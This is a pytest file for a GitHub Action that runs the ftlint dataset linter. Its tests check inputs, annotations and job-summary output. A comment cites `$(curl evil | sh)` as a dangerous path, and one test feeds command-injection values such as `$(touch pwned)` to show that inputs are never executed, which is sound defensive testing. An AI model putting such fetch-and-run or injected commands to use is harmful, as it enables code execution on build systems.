"""The GitHub Action of `action.yml` (issue 16): its inputs, and its steps run here with bash as the
runner would run them.

The runner replaces each `${{ ... }}` in a step's `env:` before the step starts; the test does the same
with test values (the inputs, the action's folder, the install step's output) and fails on any
expression it does not know, so a new one is not silently left unreplaced. The install step is not
run (ftlint is installed here already, and it would need the network): the test checks that it
installs from the action's own folder and hands the check step this environment's `ftlint` instead.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.conftest import FIXTURES, REPO

ACTION = yaml.safe_load((REPO / "action.yml").read_text(encoding="utf-8"))
FTLINT = Path(sys.executable).parent / "ftlint"
EXPRESSION = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")
GOOD = FIXTURES / "datasets" / "valid" / "example.jsonl"
BAD = FIXTURES / "datasets" / "invalid" / "broken.jsonl"

pytestmark = pytest.mark.skipif(shutil.which("bash") is None, reason="the action's steps are bash")


def _steps() -> list[dict[str, Any]]:
    return ACTION["runs"]["steps"]  # type: ignore[no-any-return]


def _install_step() -> dict[str, Any]:
    return next(step for step in _steps() if step.get("id") == "install")


def test_inputs_and_their_defaults() -> None:
    inputs = ACTION["inputs"]
    assert set(inputs) == {"paths", "profile", "args"}
    assert (inputs["paths"]["default"], inputs["profile"]["default"], inputs["args"]["default"]) == (".", "", "")
    assert not any(spec["required"] for spec in inputs.values())
    assert ACTION["runs"]["using"] == "composite"


def test_no_expression_is_written_into_a_script() -> None:
    # `${{ inputs.paths }}` in `run:` would be pasted into the script before bash reads it: a path named
    # `$(curl evil | sh)` would run. Every value goes through `env:` instead.
    for step in _steps():
        assert "${{" not in step["run"], step["name"]
        assert step["shell"] == "bash"


def test_the_install_step_installs_the_actions_own_checkout() -> None:
    step = _install_step()
    assert step["env"]["FTLINT_SOURCE"] == "${{ github.action_path }}"
    assert 'pip install --quiet --disable-pip-version-check "$FTLINT_SOURCE"' in step["run"]
    assert '>> "$GITHUB_OUTPUT"' in step["run"] and "ftlint=" in step["run"]


def _run_action(tmp_path: Path, inputs: dict[str, str],
                summary: Path | None = None) -> subprocess.CompletedProcess[str]:
    """The action's steps after the install, run with bash as the runner would (see the module doc); `summary`
    is the job summary file the runner gives ($GITHUB_STEP_SUMMARY), or none."""
    values = {f"inputs.{name}": spec["default"] for name, spec in ACTION["inputs"].items()}
    values |= {f"inputs.{name}": value for name, value in inputs.items()}
    values |= {"github.action_path": str(REPO), "steps.install.outputs.ftlint": str(FTLINT)}

    def substitute(text: str) -> str:
        def known(match: re.Match[str]) -> str:
            assert match.group(1) in values, f"the test does not know the expression {match.group(0)}"
            return values[match.group(1)]

        return EXPRESSION.sub(known, text)

    # The runner's variables are the test's own, even when the tests themselves run under GitHub Actions.
    base = {key: value for key, value in os.environ.items() if key not in ("GITHUB_ACTIONS", "GITHUB_STEP_SUMMARY")}
    base |= {"GITHUB_ACTIONS": "true", "RUNNER_TEMP": str(tmp_path), "GITHUB_OUTPUT": str(tmp_path / "output")}
    if summary is not None:
        base["GITHUB_STEP_SUMMARY"] = str(summary)
    done = None
    for step in _steps():
        if step.get("id") == "install":
            continue
        env = base | {name: substitute(str(value)) for name, value in step.get("env", {}).items()}
        done = subprocess.run(["bash", "-e", "-c", step["run"]], env=env, cwd=tmp_path, capture_output=True,
                              text=True, timeout=120)
        if done.returncode:
            break
    assert done is not None
    return done


def _workspace(tmp_path: Path) -> Path:
    for source in (GOOD, BAD):
        shutil.copy(source, tmp_path / source.name)
    return tmp_path


def test_a_bad_file_fails_the_step_with_annotations(tmp_path: Path) -> None:
    _workspace(tmp_path)
    done = _run_action(tmp_path, {"paths": "broken.jsonl"})
    assert done.returncode == 1, done.stdout + done.stderr
    errors = [line for line in done.stdout.splitlines() if line.startswith("::error file=broken.jsonl,line=")]
    assert errors and any("CH001" in line for line in errors), done.stdout


def test_a_good_file_passes(tmp_path: Path) -> None:
    _workspace(tmp_path)
    done = _run_action(tmp_path, {"paths": "example.jsonl"})
    assert done.returncode == 0, done.stdout + done.stderr
    assert "::error" not in done.stdout


def test_profile_args_and_several_paths_reach_ftlint(tmp_path: Path) -> None:
    _workspace(tmp_path)
    # The default paths: the whole folder, with both files.
    assert _run_action(tmp_path, {}).returncode == 1
    # Only CH001 selected and ignored again: nothing fails, for both files named on two lines.
    ignored = _run_action(tmp_path, {"paths": "example.jsonl\nbroken.jsonl", "args": "--select CH --ignore CH"})
    assert ignored.returncode == 0, ignored.stdout + ignored.stderr
    # A profile is passed on: `mistral` turns on its own rule CH015 (two system messages).
    (tmp_path / "two_systems.jsonl").write_text(
        '{"messages": [{"role": "system", "content": "a"}, {"role": "system", "content": "b"}, '
        '{"role": "user", "content": "q"}, {"role": "assistant", "content": "r"}]}\n')
    neutral = _run_action(tmp_path, {"paths": "two_systems.jsonl"})
    mistral = _run_action(tmp_path, {"paths": "two_systems.jsonl", "profile": "mistral"})
    assert "CH015" not in neutral.stdout and "CH015" in mistral.stdout, mistral.stdout + mistral.stderr
    # Globs are ftlint's to expand.
    globbed = _run_action(tmp_path, {"paths": "ex*.jsonl"})
    assert globbed.returncode == 0, globbed.stdout + globbed.stderr


def test_an_input_is_never_run_as_a_command(tmp_path: Path) -> None:
    _workspace(tmp_path)
    done = _run_action(tmp_path, {"paths": "$(touch pwned) `touch pwned2` ;touch pwned3", "args": "$(touch pwned4)"})
    assert done.returncode == 2  # the words are ftlint's arguments: missing files, an unknown option
    assert not list(tmp_path.glob("pwned*"))


def test_the_job_summary_gets_the_markdown_report_and_the_log_the_annotations(tmp_path: Path) -> None:
    _workspace(tmp_path)
    summary = tmp_path / "step_summary.md"
    summary.write_text("Written by an earlier command of the step.\n", encoding="utf-8")
    done = _run_action(tmp_path, {"paths": "broken.jsonl example.jsonl"}, summary=summary)
    assert done.returncode == 1, done.stdout + done.stderr  # the verdict is the same with a summary
    lines = done.stdout.splitlines()
    assert lines and all(line.startswith("::") for line in lines), done.stdout  # annotations only, as before
    assert any(line.startswith("::error file=broken.jsonl,line=") and "CH001" in line for line in lines)
    text = summary.read_text(encoding="utf-8")
    # Appended: what the step wrote before stays, then a blank line and ftlint's report.
    assert text.startswith("Written by an earlier command of the step.\n\n## ftlint: "), text
    assert " in 2 files" in text.splitlines()[2] and "| broken.jsonl |" in text and "| example.jsonl |" in text
    assert "CH001" in text and "::error" not in text
    # A second run in the same step adds its report after the first.
    assert _run_action(tmp_path, {"paths": "example.jsonl"}, summary=summary).returncode == 0
    after = summary.read_text(encoding="utf-8")
    assert after.startswith(text) and after[len(text):].startswith("\n## ftlint: no findings in 1 file\n"), after


def test_without_a_job_summary_file_nothing_changes(tmp_path: Path) -> None:
    _workspace(tmp_path)
    done = _run_action(tmp_path, {"paths": "broken.jsonl"})
    assert done.returncode == 1, done.stdout + done.stderr
    assert all(line.startswith("::") for line in done.stdout.splitlines())
    assert "--summary" not in done.stderr and not list(tmp_path.glob("*.md"))
